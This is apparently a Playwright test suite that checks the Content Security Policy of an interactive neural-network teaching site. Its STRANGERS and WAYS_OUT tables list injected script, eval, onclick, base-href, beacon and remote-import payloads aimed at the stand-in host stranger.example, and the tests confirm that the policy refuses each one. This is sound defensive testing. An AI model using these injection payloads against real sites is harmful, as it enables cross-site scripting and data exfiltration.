"""The policy of the pages in a browser: it refuses strangers, and nothing of ours."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from press import ROOT
from tests.browser.pages import SLOW, Block, pythons
from tests.browser.test_exercises import KEY, cell
from tests.browser.test_requests import search
from tests.browser.visits import CHAPTER, arrive, newcomer, until, visit

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, Page

    from tests.site import Site


# Before any script of a page; what a frame or an earlier page refused is kept as well.
LISTEN = """addEventListener("securitypolicyviolation", (event) => {
  tellRefused(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI}`);
})"""


# The same in a worker, whose events do not reach the page.
LISTEN_THERE = """() => {
  self.refused = [];
  addEventListener("securitypolicyviolation", (event) => {
    refused.push(`${event.effectiveDirective} ${event.blockedURI}`);
  });
}"""


@contextmanager
def policed(browser: Browser) -> Iterator[Page]:
    """Visit; at the end, fail if the policy has refused anything."""
    with visit(browser, keeps=True) as page:
        refused = listen(page)
        yield page
        assert refused == []


def listen(page: Page) -> list[str]:
    """Return a list that fills with what the policy refuses."""
    refused: list[str] = []
    page.expose_function("tellRefused", lambda words: refused.append(words))
    page.add_init_script(LISTEN)
    return refused


def test_a_reader_at_work(browser: Browser, address: str) -> None:
    """Who runs, edits, searches, switches the colours and goes on, page after page."""
    with policed(browser) as page:
        page.goto(f"{address}/404.html")
        page.wait_for_load_state("networkidle")
        page.evaluate("window.stillHere = true")
        page.locator(".md-content a").first.click()
        page.wait_for_url("**/index.html")
        page.locator(".md-footer__link--next").click()
        arrive(page, CHAPTER, "A neuron")
        Block(page, 1).run()
        Block(page, 1).wait("same")
        assert "à bientôt" in Block(page, 2).try_code("print('à bientôt')")
        # CodeMirror is dressed.
        scroller = Block(page, 2).root.locator(".cm-scroller")
        assert scroller.evaluate("e => getComputedStyle(e).display") == "flex"
        for _ in range(3):
            page.locator("form[data-palette] label:visible").click()
        page.locator(".md-content .highlight .md-code__button").first.click()
        search(page, "softmax")  # which another page teaches
        # All of it without the browser's loading a page: one policy judged the whole.
        assert page.evaluate("window.stillHere") is True
        page.reload()
        assert page.context.cookies() == []


def test_an_exercise_and_its_progress(browser: Browser, address: str) -> None:
    """An answer is checked, and what is solved goes into a file."""
    with policed(browser) as page:
        page.goto(f"{address}/{CHAPTER}")
        cell(page, 1).locator(".exercise-check").click()
        page.locator("[data-state='not attempted']").wait_for(timeout=SLOW)
        answers = {"01-neuron": {"by-hand": {"solved": True, "code": "small = 5.5"}}}
        kept = {"what": "nnfs-lit exercises", "version": 2, "answers": answers}
        page.evaluate("all => localStorage.setItem(...all)", [KEY, json.dumps(kept)])
        page.goto(f"{address}/index.html")
        with page.expect_download():
            page.get_by_role("button", name="Export").click()


def test_the_playground(browser: Browser, address: str) -> None:
    """It learns, and draws what it learned."""
    with policed(browser) as page:
        page.goto(f"{address}/playground.html")
        page.get_by_role("button", name="Play", exact=True).click()
        frame = "document.querySelector('nn-playground').frame"
        until(page, f"{frame}?.epoch >= 5", timeout=SLOW)


def test_from_disk(browser: Browser, built_site: Site) -> None:
    """Where a page has no host that could be its own, and the search no worker."""
    with policed(browser) as page:
        page.goto((built_site.directory / "index.html").as_uri())
        page.locator(".md-footer__link--next").click()
        page.get_by_text("Opened from disk").wait_for()
        paper = "getComputedStyle(document.body).getPropertyValue('--nn-paper')"
        assert page.evaluate(paper).strip() == "#ffffff"
        search(page)
        page.goto((built_site.directory / "book.html").as_uri())


STRANGERS = {
    "an inline script": (
        "const s = document.createElement('script'); s.textContent = 'stranger = 1';"
        " document.body.append(s)",
        "script-src-elem inline",
    ),
    "an attribute with a script": (
        "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"stranger = 1\">');"
        " document.body.lastElementChild.click()",
        "script-src-attr inline",
    ),
    "a script of another host": (
        "const s = document.createElement('script');"
        " s.src = 'https://stranger.example/x.js'; document.body.append(s)",
        "script-src-elem https://stranger.example/x.js",
    ),
    "text that becomes a script": ("stranger = eval('1')", "script-src eval"),
    "a picture of another host": (
        "new Image().src = 'https://stranger.example/x.png'",
        "img-src https://stranger.example/x.png",
    ),
    "a message to another host": (
        "navigator.sendBeacon('https://stranger.example/')",
        "connect-src https://stranger.example/",
    ),
    "a style sheet of another host": (
        "document.head.insertAdjacentHTML('beforeend',"
        " '<link rel=stylesheet href=https://stranger.example/x.css>')",
        "style-src-elem https://stranger.example/x.css",
    ),
    "a frame": (
        "const f = document.createElement('iframe');"
        " f.src = 'https://stranger.example/'; document.body.append(f)",
        "frame-src https://stranger.example",
    ),
    "another root for the links": (
        "document.head.insertAdjacentHTML('beforeend',"
        " '<base href=https://stranger.example/>')",
        "base-uri https://stranger.example",
    ),
}


@pytest.mark.parametrize("stranger", STRANGERS)
def test_strangers_are_refused(browser: Browser, address: str, stranger: str) -> None:
    """Whatever got into a page by a hole that nobody knows: no request leaves it."""
    act, refusal = STRANGERS[stranger]
    with browser.new_page() as page:
        refused = listen(page)
        page.goto(f"{address}/{CHAPTER}")
        page.wait_for_load_state("networkidle")
        # The browser tells of a request that it never sends, and why.
        unsent = []
        page.on("requestfailed", lambda request: unsent.append(request.failure))
        sent = []
        page.on("response", lambda response: sent.append(response.url))
        # As a timer, so that the page does it, and not the hand that drives it.
        page.evaluate(f"setTimeout(() => {{ {act} }})")
        page.wait_for_timeout(300)
        assert [each for each in refused if f": {refusal}" in each], refused
        assert page.evaluate("typeof stranger") == "undefined"
        assert sent == []
        assert set(unsent) <= {"csp"}


@pytest.fixture(scope="module")
def running(browser: Browser, address: str) -> Iterator[Page]:
    """Give a chapter in which Python runs; the editor of its first block is open."""
    with newcomer(browser) as page:
        page.goto(f"{address}/{CHAPTER}")
        Block(page, 1).try_code("print('ready')")
        pythons(page)[0].evaluate(LISTEN_THERE)
        page.wait_for_load_state("networkidle")
        yield page


ATTEMPT = """\
import js
from pyodide.ffi import to_js

def from_text(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text])))

try:
    {}
except Exception:  # Pyodide now and then loses the words of an error
    print("refused")
"""

SCRIPT = "https://stranger.example/x.js"
WAYS_OUT = {
    "text that becomes a script": (
        f"js.eval('import(`{SCRIPT}`)')",
        "script-src eval",
    ),
    "text that becomes a function": (
        f"js.Function.new('return import(`{SCRIPT}`)')()",
        "script-src eval",
    ),
    "a timer with a text": (
        f"js.setTimeout('import(`{SCRIPT}`)')",
        "script-src eval",
    ),
    "a font": (
        "js.FontFace.new('x', 'url(https://stranger.example/x.woff2)').load()",
        "refused",
    ),
    "a cache": (
        "js.caches.open('x').then(lambda kept: kept.add('https://stranger.example/'))",
        "refused",
    ),
    "a script": (f"js.importScripts('{SCRIPT}')", "refused"),
    "a worker": (f"js.Worker.new('{SCRIPT}')", "refused"),
    "a worker with a script": (
        f"js.Worker.new(from_text('importScripts(`{SCRIPT}`)'))",
        "refused",
    ),
    "a worker without the policy": (
        "js.Worker.new(js.location.origin + '/assets/live/worker.js')",
        "refused",
    ),
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_what_a_reader_runs_reaches_nobody(running: Page, way: str) -> None:
    """Nor what a link has brought: by whatever JavaScript has, no request leaves."""
    attempt, refusal = WAYS_OUT[way]
    code = ATTEMPT.format(attempt)
    is_refused(running, lambda: Block(running, 1).try_code(code), refusal)


def test_python_has_the_policy_of_its_page(running: Page) -> None:
    """Should a text become a script after all, it gets nothing from elsewhere."""
    [python] = pythons(running)
    act = f"setTimeout(() => import('{SCRIPT}').catch(() => {{}}))"
    is_refused(running, lambda: str(python.evaluate(act)), f"script-src-elem {SCRIPT}")


def is_refused(page: Page, act: Callable[[], str], refusal: str) -> None:
    """Hold that an act asks nobody, and that this is what is told of it."""
    [python] = pythons(page)
    unsent: list[str | None] = []
    page.on("requestfailed", lambda request: unsent.append(request.failure))
    sent: list[str] = []
    page.on("response", lambda response: sent.append(response.url))
    said = act()
    page.wait_for_timeout(300)
    # The page itself may still fetch a part of its own.
    assert [url for url in sent if "/assets/live/" not in url] == []
    assert set(unsent) <= {"csp"}
    assert len(page.workers) == 1
    told = [said, *python.evaluate("refused.splice(0)")]
    assert [each for each in told if refusal in each], told


PROJECT = """
site_name: One page
site_url: http://127.0.0.1/
use_directory_urls: false
theme: {{name: material, font: false, custom_dir: "{theme}"}}
hooks: ["{hook}"]
"""


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """Have `mkdocs serve` show a page; give the page, and its address."""
    source = tmp_path / "docs" / "index.md"
    source.parent.mkdir()
    source.write_text("# An old word\n")
    theme, hook = (
        ROOT / "press" / "site" / "theme",
        ROOT / "press" / "site" / "hook.py",
    )
    settings = PROJECT.format(theme=theme.as_posix(), hook=hook.as_posix())
    (tmp_path / "mkdocs.yml").write_text(settings)
    (tmp_path / "docs" / "assets").symlink_to(ROOT / "docs" / "assets")
    with socket.create_server(("127.0.0.1", 0)) as free:
        at = f"127.0.0.1:{free.getsockname()[1]}"
    command = [sys.executable, "-m", "mkdocs", "serve", "--dev-addr", at]
    environment = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": str(ROOT)}
    with (tmp_path / "log").open("w") as log:
        serve = subprocess.Popen(command, cwd=tmp_path, env=environment, stderr=log)
        while "Serving on" not in (tmp_path / "log").read_text():
            assert serve.poll() is None, (tmp_path / "log").read_text()
            time.sleep(0.1)
        yield source, f"http://{at}"
        serve.terminate()
        serve.wait()


def test_a_preview_still_loads_again(
    browser: Browser, served: tuple[Path, str]
) -> None:
    """The script that `mkdocs serve` adds is admitted, and no other host for it."""
    source, at = served
    with browser.new_page() as page:
        refused = listen(page)
        page.goto(f"{at}/index.html")
        page.get_by_role("heading", name="An old word").wait_for()
        assert page.evaluate("typeof livereload") == "function"
        assert not page.locator("link[rel=manifest]").count()
        assert page.request.get(f"{at}/service-worker.js").status == 404
        act, refusal = STRANGERS["a script of another host"]
        page.evaluate(f"setTimeout(() => {{ {act} }})")
        for _ in range(500):
            page.wait_for_timeout(20)
            if refused:
                break
        assert [refusal in each for each in refused] == [True]
        source.write_text("# A brand-new word\n")
        page.get_by_role("heading", name="A brand-new word").wait_for(timeout=SLOW)
        assert len(refused) == 1
